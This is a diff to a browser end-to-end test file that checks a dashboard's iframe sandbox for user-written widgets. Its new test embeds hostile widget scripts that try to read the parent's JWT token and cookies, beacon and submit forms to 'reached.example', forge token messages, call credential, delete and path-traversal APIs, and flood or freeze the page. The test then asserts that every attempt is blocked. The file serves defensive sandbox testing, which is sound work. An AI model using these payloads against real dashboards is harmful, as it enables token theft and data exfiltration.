@@ -1,4 +1,4 @@
-/** Widget types that users wrote: what they draw, do and report. */
+/** Widget types that users wrote: what they draw and do, and what a hostile author can't. */
 
 import assert from 'node:assert/strict'
 import test, { after } from 'node:test'
@@ -155,6 +155,11 @@ test('a widget draws live data from its template and script, opens a state and s
           title: 'Trend',
           kind: 'timeseries',
           html: '<p></p>',
+          // Raw values: an average of both would be shown if they came within one interval.
+          config: {
+            useDashboardTimewindow: false,
+            timewindow: { realtime: { timewindowMs: 600_000 }, aggregation: { type: 'NONE', limit: 200 } },
+          },
           script: `
             self.onDataUpdated = function () {
               var points = self.ctx.data[0].data
@@ -209,4 +214,114 @@ test('a widget draws live data from its template and script, opens a state and s
       await card(page, 'Trend').waitFor({ state: 'detached' })
     },
     { bypassCSP: true },
+  ))
+
+/** Tries everything from within the frame, also through the page's port, and lists what it got. */
+const reach = `
+  var port = null
+  var post = MessagePort.prototype.postMessage
+  MessagePort.prototype.postMessage = function (message) { port = this; return post.call(this, message) }
+  self.onInit = function () {
+    var found = []
+    var later = function (name, promise) {
+      return promise.then(function (value) { if (value !== undefined) found.push(name) }, function () {})
+    }
+    var reach = {
+      document: function () { return parent.document },
+      token: function () { return parent.localStorage.getItem('jwt_token') },
+      storage: function () { return localStorage || sessionStorage },
+      cookie: function () { return (document.cookie = 'a=b') && document.cookie },
+      neighbor: function () {
+        for (var i = 0; i < parent.frames.length; i++)
+          try { if (parent.frames[i] !== window && parent.frames[i].document) return true } catch (error) {}
+      },
+      opener: function () { return open('/reached') },
+      top: function () { top.location = '/reached'; return top.document },
+      request: function () { var one = new XMLHttpRequest(); one.open('GET', '/api/reached', false); one.send(); return true },
+      socket: function () { return new WebSocket('wss://example.org').readyState === 1 },
+      peer: function () { return new RTCPeerConnection() },
+      worker: function () { return new Worker(URL.createObjectURL(new Blob(['0']))).foo },
+      frame: function () {
+        var one = document.createElement('iframe')
+        one.src = '/reached'
+        document.body.append(one)
+        return one.contentDocument
+      },
+    }
+    for (var name in reach) try { if (reach[name]()) found.push(name) } catch (error) {}
+    var image = new Image()
+    image.src = 'https://reached.example/?leak'
+    document.body.insertAdjacentHTML('beforeend', '<form action="https://reached.example"><input name="a"></form><link rel="stylesheet" href="https://reached.example/a.css">')
+    document.forms[0].submit()
+    parent.postMessage(JSON.stringify({ type: 'reloadUserMessage', data: { token: 'a.b.c', refreshToken: 'a.b.c' } }), '*')
+    self.ctx.updateWidgetParams()
+    ;[null, 7, 'x', [], { kind: 'done', seq: 'x' }, { kind: 'asks', call: 1, method: '__proto__', args: [] },
+      { kind: 'asks', call: 2, method: 'http', args: {} }, { kind: 'fault' }].forEach(function (one) { post.call(port, one) })
+    var ctx = self.ctx
+    var ask = function (observable) { return observable.toPromise() }
+    Promise.all([
+      later('fetch', fetch('/api/auth/user')),
+      later('database', new Promise(function (resolve, reject) { var one = indexedDB.open('x'); one.onsuccess = resolve; one.onerror = reject })),
+      later('credentials', ask(ctx.http.get('/api/device/' + ctx.datasources[0].entityId + '/credentials'))),
+      later('other origin', ask(ctx.http.get('https://reached.example/api/device'))),
+      later('users', ask(ctx.http.get('/api/users?pageSize=10&page=0'))),
+      later('climbing', ask(ctx.http.get('/api/devices/../user/tokens'))),
+      later('deleting', ask(ctx.http.delete('/api/device/' + ctx.datasources[0].entityId))),
+      later('saving', ask(ctx.http.post('/api/device', { name: 'reached' }))),
+      later('unknown', ask(ctx.http.get('/api/constructor'))),
+    ]).then(function () { ctx.$container.text('reached: ' + found.join(', ') + '.') })
+  }`
+
+test('a hostile author reaches neither the page nor the network, the API or other widgets, and can’t freeze the page', () =>
+  stage.play(
+    async (page) => {
+      const requests: string[] = []
+      // What a policy refuses is a request too, but never finished.
+      page.context().on('requestfinished', (request) => requests.push(request.url()))
+      await send({ level: 20 })
+      const path = await dashboardOf('Hostile widgets', [
+        { title: 'Hostile', script: reach },
+        tank,
+        { title: 'Leaving', script: 'location.href = "https://reached.example/?" + self.ctx.datasources[0].entityId' },
+        {
+          title: 'Flooding',
+          script: `
+            var post = MessagePort.prototype.postMessage
+            MessagePort.prototype.postMessage = function (message) {
+              for (var i = 0; i < 2000; i++) post.call(this, { kind: 'done', seq: i })
+            }`,
+        },
+        {
+          title: 'Foreign file',
+          html: 'drawn',
+          resources: [{ url: 'https://reached.example/chart.js' }],
+          script: '',
+        },
+      ])
+      await openAs(page, tenant, path)
+      await inside(page, 'Hostile').getByText('reached: .', { exact: true }).waitFor()
+      await inside(page, 'Tank').getByText('1. Level is 20 %').waitFor()
+      await card(page, 'Leaving').getByText('opened another address and was stopped').waitFor()
+      await card(page, 'Flooding').getByText('sent too many messages and was stopped').waitFor()
+      await card(page, 'Foreign file').getByText('Couldn’t load https://reached.example/chart.js').waitFor()
+      await inside(page, 'Foreign file').getByText('drawn').waitFor()
+      assert.equal(new URL(page.url()).pathname, path)
+
+      // Code without end is stopped; the page answers all the time, and the widget can be started again.
+      const endless = await dashboardOf('Endless widgets', [
+        { title: 'Endless', script: 'self.onInit = function () { while (true) {} }' },
+      ])
+      await openAs(page, tenant, endless)
+      await card(page, 'Endless').locator('iframe').waitFor()
+      await card(page, 'Endless').getByText('doesn’t respond and was stopped').waitFor()
+      await card(page, 'Endless').getByRole('button', { name: 'Restart' }).click()
+      await card(page, 'Endless').locator('iframe').waitFor()
+      await page.getByRole('link', { name: 'Devices' }).first().click()
+      await card(page, 'Endless').waitFor({ state: 'detached' })
+      assert.deepEqual(
+        requests.filter((url) => url.includes('reached')),
+        [],
+      )
+    },
+    { isHostile: true },
   ))
